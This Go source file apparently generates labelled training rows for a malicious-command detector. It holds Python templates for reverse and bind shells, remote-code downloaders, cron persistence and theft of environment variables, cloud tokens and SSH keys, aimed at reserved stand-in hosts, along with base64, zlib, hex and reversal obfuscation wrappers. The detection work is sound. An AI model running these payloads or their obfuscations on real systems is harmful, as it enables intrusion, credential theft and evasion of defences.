package corpus

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strings"
)

// The pieces of made scripts. HOST, PORT, URL, SHELL and the names A to D are
// filled in anew each time; "§" is a line end or a semicolon.
var bodies = []struct{ name, family, text string }{
	{"dup2", "reverse_shell", "import socket as A,subprocess as B,os as C§D=A.socket(A.AF_INET,A.SOCK_STREAM)§D.connect((\"HOST\",PORT))§C.dup2(D.fileno(),0)§C.dup2(D.fileno(),1)§C.dup2(D.fileno(),2)§B.call([\"SHELL\",\"-i\"])"},
	{"dup2 loop", "reverse_shell", "import socket,os,pty§A=socket.socket()§A.connect((\"HOST\",PORT))§[os.dup2(A.fileno(),B) for B in (0,1,2)]§pty.spawn(\"SHELL\")"},
	{"map dup2", "reverse_shell", "import os,socket§A=socket.create_connection((\"HOST\",PORT))§list(map(lambda B:os.dup2(A.fileno(),B),range(3)))§os.system(\"SHELL\")"},
	{"popen stdio", "reverse_shell", "import socket,subprocess§A=socket.socket()§A.connect((\"HOST\",PORT))§subprocess.Popen(\"SHELL\",stdin=A.fileno(),stdout=A.fileno(),stderr=A.fileno(),shell=True).wait()"},
	{"execv", "reverse_shell", "import os,socket§A=socket.socket()§A.connect((\"HOST\",PORT))§B=A.fileno()§os.dup2(B,0)§os.dup2(B,1)§os.dup2(B,2)§os.execv(\"SHELL\",[\"SHELL\",\"-i\"])"},
	{"recv popen", "reverse_shell", "import socket,os§A=socket.socket()§A.connect((\"HOST\",PORT))§B=A.recv(1024).decode()§C=os.popen(B).read()§A.send(C.encode())"},
	{"recv exec", "reverse_shell", "import socket§A=socket.create_connection((\"HOST\",PORT))§B=A.recv(65535)§exec(B)"},
	{"length exec", "downloader", "import socket,struct§A=socket.socket(2,socket.SOCK_STREAM)§A.connect((\"HOST\",PORT))§B=struct.unpack(\">I\",A.recv(4))[0]§C=A.recv(B)§exec(C,{\"s\":A})"},
	{"devtcp", "reverse_shell", "import os§os.system(\"bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'\")"},
	{"nc", "reverse_shell", "import subprocess§subprocess.Popen([\"nc\",\"HOST\",\"PORT\",\"-e\",\"SHELL\"])"},
	{"spawn", "reverse_shell", "import pty§pty.spawn(\"SHELL\")"},
	{"execl", "reverse_shell", "import os§os.execl(\"SHELL\",\"SHELL\",\"-p\")"},
	{"setuid", "reverse_shell", "import os§os.setuid(0)§os.setgid(0)§os.execvp(\"SHELL\",[\"SHELL\",\"-i\"])"},
	{"exec fetched", "downloader", "import urllib.request as A§exec(A.urlopen(\"URL\").read())"},
	{"exec fetched text", "downloader", "import requests as A§exec(A.get(\"URL\").text)"},
	{"exec fetched late", "downloader", "from urllib.request import urlopen§A=urlopen(\"URL\").read().decode()§B=compile(A,\"x\",\"exec\")§exec(B)"},
	{"fetch run", "downloader", "import urllib.request,os§urllib.request.urlretrieve(\"URL\",\"/tmp/A\")§os.chmod(\"/tmp/A\",0o755)§os.system(\"/tmp/A &\")"},
	{"write run", "downloader", "import requests,os,subprocess§A=requests.get(\"URL\").content§B=open(\"/dev/shm/.A\",\"wb\")§B.write(A)§B.close()§os.chmod(\"/dev/shm/.A\",511)§subprocess.Popen([\"/dev/shm/.A\"])"},
	{"memfd", "downloader", "import os,urllib.request§A=os.memfd_create(\"A\")§os.write(A,urllib.request.urlopen(\"URL\").read())§os.execv(\"/proc/self/fd/%d\"%A,[\"kworker\"])"},
	{"curl sh", "downloader", "import os§os.system(\"curl -fsSL URL|SHELL\")"},
	{"wget sh", "downloader", "import subprocess§subprocess.call(\"wget -qO- URL | SHELL\",shell=True)"},
	{"curl chmod", "downloader", "import os§os.popen(\"cd /tmp;curl -O URL;chmod 777 A;./A\")"},
	{"env post", "exfil_env", "import os,urllib.request,json§urllib.request.urlopen(\"URL\",data=json.dumps(dict(os.environ)).encode())"},
	{"token post", "exfil_env", "import requests§requests.post(\"URL\",data=open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").read())"},
	{"role post", "exfil_env", "import urllib.request as A§B=A.urlopen(\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\").read()§A.urlopen(\"URL\",B)"},
	{"file post", "stealer", "import requests,os§requests.post(\"URL\",files={\"A\":open(os.path.expanduser(\"~/.ssh/id_rsa\"),\"rb\")})"},
	{"cron", "downloader", "import os§os.system('(crontab -l;echo \"* * * * * curl URL|SHELL\")|crontab -')"},
	{"keys", "c2_implant", "import os§A=open(\"/root/.ssh/authorized_keys\",\"a\")§A.write(\"ssh-rsa AAAAB3IMITATION\")§A.close()"},
	{"bind", "reverse_shell", "import socket,subprocess§A=socket.socket()§A.bind((\"0.0.0.0\",PORT))§A.listen(1)§B,C=A.accept()§subprocess.Popen([\"SHELL\",\"-i\"],stdin=B,stdout=B,stderr=B)"},
}

// wrappers hide a body. They change how it looks, not what it does.
var wrappers = []struct {
	name string
	wrap func(body string, r *rand.Rand) string
}{
	{"plain", func(body string, _ *rand.Rand) string { return body }},
	{"plain again", func(body string, _ *rand.Rand) string { return body }},
	{"single quotes", func(body string, _ *rand.Rand) string {
		if strings.Contains(body, "'") {
			return body
		}
		return strings.ReplaceAll(body, `"`, `'`)
	}},
	{"function", func(body string, r *rand.Rand) string {
		f := madeName(r)
		return "def " + f + "():\n" + indent(body) + "\n" + f + "()\n"
	}},
	{"try", func(body string, _ *rand.Rand) string {
		return "try:\n" + indent(body) + "\nexcept Exception:\n    pass\n"
	}},
	{"base64", func(body string, _ *rand.Rand) string {
		return "import base64;exec(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte(body)) + "'))"
	}},
	{"base64 import", func(body string, _ *rand.Rand) string {
		return "exec(__import__('base64').b64decode(b'" + base64.StdEncoding.EncodeToString([]byte(body)) + "').decode())"
	}},
	{"zlib", func(body string, _ *rand.Rand) string {
		return "import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + base64.StdEncoding.EncodeToString(deflated(body)) + "')))"
	}},
	{"hex", func(body string, _ *rand.Rand) string {
		return "exec(bytes.fromhex('" + hex.EncodeToString([]byte(body)) + "').decode())"
	}},
	{"py2 hex", func(body string, _ *rand.Rand) string {
		return "exec '" + hex.EncodeToString([]byte(body)) + "'.decode('hex')"
	}},
	{"chr", func(body string, _ *rand.Rand) string {
		var b strings.Builder
		for i := range len(body) {
			fmt.Fprintf(&b, "%d,", body[i])
		}
		return "exec(''.join(chr(c) for c in [" + b.String() + "]))"
	}},
	{"reverse", func(body string, _ *rand.Rand) string {
		b := []byte(fmt.Sprintf("%q", body))
		s := b[1 : len(b)-1]
		if bytes.ContainsRune(s, '\\') {
			return "exec(" + string(b) + ")"
		}
		for i, j := 0, len(s)-1; i < j; i, j = i+1, j-1 {
			s[i], s[j] = s[j], s[i]
		}
		return "exec(" + string(b) + "[::-1])"
	}},
}

// Made returns variations of malicious command lines and standard input, for
// training only: the same behavior in other spellings, names, quotes and
// encodings, at reserved addresses; and the [Loaders]. They are the same on
// every call.
func Made() []Row {
	rows := Loaders()
	r := rand.New(rand.NewPCG(11, 17))
	for j, b := range bodies {
		for k, w := range wrappers {
			body := b.text
			if w.name == "function" || w.name == "try" {
				body = strings.ReplaceAll(body, "§", "\n") // one statement a line
			}
			text := w.wrap(fill(body, r), r)
			kind := [...]string{"c", "stdin"}[(k+j)%2]
			rows = append(rows, Row{
				ID: digest(text), Malicious: true, Family: b.family, Kind: kind,
				Cluster: "made:" + b.name + ":" + fmt.Sprint(k/4), Group: "made:" + b.name + ":" + w.name,
				Source: "made", Origin: b.name + " as " + w.name, Set: "made", Evidence: -1, Text: text,
			})
		}
	}
	return rows
}

// fill puts names, an address and line ends into a body.
func fill(body string, r *rand.Rand) string {
	hosts := []string{"192.0.2.", "198.51.100.", "203.0.113."}
	host := fmt.Sprint(hosts[r.IntN(len(hosts))], 1+r.IntN(254))
	paths := []string{"/a", "/x.sh", "/update", "/p.py", ":8080/s", "/i?id=1", ":8000/run.txt"}
	address := "http://" + host + paths[r.IntN(len(paths))]
	if r.IntN(3) == 0 {
		host = []string{"c2.example.com", "cdn.example.com", "example.com"}[r.IntN(3)]
		address = "https://" + host + "/" + madeName(r)
	}
	ports := []string{"4444", "1337", "443", "9001", "8888", "31337", "53", "4242"}
	end := []string{";", "\n", "; "}[r.IntN(3)]
	body = strings.NewReplacer(
		"HOST", host, "PORT", ports[r.IntN(len(ports))], "URL", address, "§", end,
		"SHELL", []string{"/bin/sh", "/bin/bash", "sh", "bash"}[r.IntN(4)],
	).Replace(body)
	for _, name := range []string{"A", "B", "C", "D"} {
		body = replaceWord(body, name, madeName(r))
	}
	return body
}

// replaceWord replaces a name where it stands by itself.
func replaceWord(s, word, with string) string {
	letter := func(i int) bool {
		return i >= 0 && i < len(s) && (s[i] == '_' || s[i] >= 'a' && s[i] <= 'z' || s[i] >= 'A' && s[i] <= 'Z' || s[i] >= '0' && s[i] <= '9')
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		if strings.HasPrefix(s[i:], word) && !letter(i-1) && !letter(i+len(word)) {
			b.WriteString(with)
			i += len(word)
			continue
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}

func madeName(r *rand.Rand) string {
	names := []string{"s", "c", "sock", "conn", "p", "x", "data", "r", "client", "k", "_", "out", "cmd", "m"}
	name := names[r.IntN(len(names))]
	return fmt.Sprint(name, r.IntN(100))
}
